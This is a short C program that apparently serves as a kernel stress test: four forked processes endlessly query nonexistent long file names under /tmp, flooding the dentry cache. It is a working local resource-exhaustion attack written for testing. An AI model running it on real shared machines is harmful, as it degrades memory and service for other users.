/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Names that do not exist, asked for without end. */
#include "attack.h"

int main(void)
{
    char name[300];
    memset(name, 'n', sizeof name);
    memcpy(name, "/tmp/", 5);
    for (int i = 0; i < 2; i++)
        fork();
    for (unsigned i = 0;; i++) {
        sprintf(name + 200, "%d.%u", getpid(), i);
        access(name, F_OK);
    }
}
